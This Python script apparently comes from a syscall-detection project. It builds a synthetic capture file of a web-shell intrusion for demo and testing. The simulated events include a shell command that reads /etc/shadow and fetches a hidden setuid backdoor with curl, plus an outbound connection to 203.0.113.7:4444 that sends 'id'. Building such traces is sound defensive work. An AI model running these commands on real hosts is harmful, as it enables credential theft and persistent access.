"""Builds traces/demo-webshell.scap with falcolite's scap writer.

A small, deterministic host scenario in the event encoding of 2022-era
drivers (enter and exit events), so that sysdig 0.29.3 decodes it too:

* an nginx worker (www-data) spawns `sh -c ...`, which runs `cat /etc/shadow`;
* the shell writes /usr/bin/.backdoor, makes it setuid and connects out to
  203.0.113.7:4444;
* meanwhile an ordinary `ls` reads /etc/hosts.

Run: python traces/make_demo.py  (rewrites the capture in place)
"""

from __future__ import annotations

import sys
from pathlib import Path

from falcolite.events.records import (
    FD_FILE_V2,
    CaptureMeta,
    FdRecord,
    GroupRecord,
    InterfaceRecord,
    Machine,
    ThreadRecord,
    UserRecord,
)
from falcolite.events.writer import ScapWriter, sockaddr_inet, socktuple_inet

T0 = 1_733_300_000_000_000_000  # 2024-12-04T08:13:20Z
CGROUPS = b"cpuset=/\0cpu=/system.slice/nginx.service\0memory=/system.slice/nginx.service\0"
ENV = b"PATH=/usr/sbin:/usr/bin:/sbin:/bin\0LANG=C.UTF-8\0"

# event codes (2022 table)
OPEN_E, OPEN_X, CLOSE_E, CLOSE_X, READ_E, READ_X = 2, 3, 4, 5, 6, 7
WRITE_E, WRITE_X, SOCKET_E, SOCKET_X, CONNECT_E, CONNECT_X = 8, 9, 18, 19, 22, 23
PROCEXIT = 186
CLONE_E, CLONE_X = 222, 223
EXECVE_E, EXECVE_X = 292, 293
OPENAT_E, OPENAT_X = 306, 307
FCHMODAT_E, FCHMODAT_X = 312, 313

O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC, O_CLOEXEC = 1, 2, 4, 0x100, 0x1000
AF_INET, SOCK_STREAM = 2, 1
FORK_FLAGS = 0x1800000  # CLONE_CHILD_CLEARTID | CLONE_CHILD_SETTID, as fork() passes


class Scenario:
    def __init__(self, w: ScapWriter) -> None:
        self.w = w
        self.ts = T0

    def ev(self, code: int, tid: int, values: list, step: int = 20_000) -> None:
        self.ts += step
        self.w.write_values(code, self.ts, tid, values)

    def clone(self, parent: tuple, child: int, comm: bytes, exe: bytes, args: bytes,
              cwd: bytes, uid: int, gid: int) -> None:
        ptid, pid, pptid = parent
        common = [exe, args]
        tail = [cwd, 1024, 0, 120, 9000, 1800, 0, comm, CGROUPS, FORK_FLAGS, uid, gid]
        self.ev(CLONE_E, ptid, [])
        self.ev(CLONE_X, ptid, [child, *common, ptid, pid, pptid, *tail, ptid, pid], 5_000)
        self.ev(CLONE_X, child, [0, *common, child, child, ptid, *tail, child, child], 30_000)

    def execve(self, tid: int, ptid: int, path: bytes, comm: bytes, args: bytes,
               cwd: bytes) -> None:
        self.ev(EXECVE_E, tid, [path])
        self.ev(EXECVE_X, tid, [0, path, args, tid, tid, ptid, cwd, 1024, 0, 80, 2600, 900,
                                0, comm, CGROUPS, ENV, 0, tid, -1, 0], 400_000)

    def open(self, tid: int, path: bytes, flags: int, fd: int, mode: int = 0) -> None:
        self.ev(OPEN_E, tid, [path, flags, mode])
        self.ev(OPEN_X, tid, [fd, path, flags, mode, 0x803], 8_000)

    def openat(self, tid: int, path: bytes, flags: int, fd: int, mode: int = 0) -> None:
        self.ev(OPENAT_E, tid, [-100, path, flags, mode])
        self.ev(OPENAT_X, tid, [fd, -100, path, flags, mode, 0x803], 8_000)

    def read(self, tid: int, fd: int, data: bytes) -> None:
        self.ev(READ_E, tid, [fd, 4096])
        self.ev(READ_X, tid, [len(data), data], 3_000)

    def write(self, tid: int, fd: int, data: bytes) -> None:
        self.ev(WRITE_E, tid, [fd, len(data)])
        self.ev(WRITE_X, tid, [len(data), data], 3_000)

    def close(self, tid: int, fd: int) -> None:
        self.ev(CLOSE_E, tid, [fd])
        self.ev(CLOSE_X, tid, [0], 2_000)

    def exit(self, tid: int) -> None:
        self.ev(PROCEXIT, tid, [0, 0, 0, 0])


def metadata() -> CaptureMeta:
    def thread(tid: int, ptid: int, comm: bytes, exe: bytes, args: bytes, cwd: bytes,
               uid: int, gid: int) -> ThreadRecord:
        return ThreadRecord(tid=tid, pid=tid, ptid=ptid, comm=comm, exe=exe, exepath=exe,
                            args=args, cwd=cwd, fdlimit=1024, uid=uid, gid=gid, vtid=tid,
                            vpid=tid, cgroups=CGROUPS, root=b"/", sid=tid, vpgid=tid)

    return CaptureMeta(
        machine=Machine(2, 4 << 30, 4194304, "edge-01", T0 - 86_400 * 10**9),
        threads=[
            thread(1, 0, b"systemd", b"/sbin/init", b"", b"/", 0, 0),
            thread(610, 1, b"nginx", b"/usr/sbin/nginx", b"-g\0daemon off;\0", b"/", 0, 0),
            thread(611, 610, b"nginx", b"/usr/sbin/nginx", b"-g\0daemon off;\0", b"/", 33,
                   33),
            thread(900, 1, b"bash", b"/bin/bash", b"", b"/home/ops", 1000, 1000),
        ],
        fds=[FdRecord(tid=611, fd=1, type=FD_FILE_V2, name=b"/var/log/nginx/access.log",
                      open_flags=O_WRONLY | 8),
             FdRecord(tid=611, fd=2, type=FD_FILE_V2, name=b"/var/log/nginx/error.log",
                      open_flags=O_WRONLY | 8)],
        users=[UserRecord(0, 0, b"root", b"/root", b"/bin/bash"),
               UserRecord(33, 33, b"www-data", b"/var/www", b"/usr/sbin/nologin"),
               UserRecord(1000, 1000, b"ops", b"/home/ops", b"/bin/bash")],
        groups=[GroupRecord(0, b"root"), GroupRecord(33, b"www-data"),
                GroupRecord(1000, b"ops")],
        interfaces=[InterfaceRecord(1, b"lo", bytes([127, 0, 0, 1]), bytes([255, 0, 0, 0]),
                                    bytes([127, 255, 255, 255]), 0),
                    InterfaceRecord(1, b"eth0", bytes([10, 0, 0, 5]), bytes([255, 255, 255, 0]),
                                    bytes([10, 0, 0, 255]), 1000)],
    )


def build(path: Path) -> None:
    with ScapWriter(str(path), compress=True) as w:
        w.write_header(metadata())
        s = Scenario(w)
        # an ordinary admin command
        s.clone((900, 900, 1), 950, b"bash", b"/bin/bash", b"", b"/home/ops", 1000, 1000)
        s.execve(950, 900, b"/bin/ls", b"ls", b"-l\0/etc/hosts\0", b"/home/ops")
        s.open(950, b"/etc/hosts", O_RDONLY | O_CLOEXEC, 3)
        s.read(950, 3, b"127.0.0.1 localhost\n")
        s.close(950, 3)
        s.exit(950)
        # the web shell
        s.clone((611, 611, 610), 1200, b"nginx", b"/usr/sbin/nginx", b"-g\0daemon off;\0",
                b"/var/www", 33, 33)
        s.execve(1200, 611, b"/bin/sh", b"sh",
                 b"-c\0cat /etc/shadow; curl -so /usr/bin/.backdoor x\0", b"/var/www")
        s.clone((1200, 1200, 611), 1201, b"sh", b"/bin/sh", b"-c\0cat /etc/shadow\0",
                b"/var/www", 33, 33)
        s.execve(1201, 1200, b"/bin/cat", b"cat", b"/etc/shadow\0", b"/var/www")
        s.open(1201, b"/etc/shadow", O_RDONLY | O_CLOEXEC, 3)
        s.read(1201, 3, b"root:$6$Zm9vYmFy$abc:19000:0:99999:7:::\n")
        s.close(1201, 3)
        s.exit(1201)
        s.openat(1200, b"/usr/bin/.backdoor", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 4,
                 0o755)
        s.write(1200, 4, b"\x7fELF\x02\x01\x01" + b"\0" * 9)
        s.close(1200, 4)
        s.ev(FCHMODAT_E, 1200, [])
        s.ev(FCHMODAT_X, 1200, [0, -100, b"/usr/bin/.backdoor", 0o4755], 4_000)
        s.ev(SOCKET_E, 1200, [AF_INET, SOCK_STREAM, 0])
        s.ev(SOCKET_X, 1200, [5], 4_000)
        s.ev(CONNECT_E, 1200, [5, sockaddr_inet("203.0.113.7", 4444)])
        s.ev(CONNECT_X, 1200, [0, socktuple_inet("10.0.0.5", 51234, "203.0.113.7", 4444)],
             90_000)
        s.write(1200, 5, b"id\n")
        s.close(1200, 5)
        s.exit(1200)
    print(f"wrote {path}")


if __name__ == "__main__":
    build(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).with_name(
        "demo-webshell.scap"))
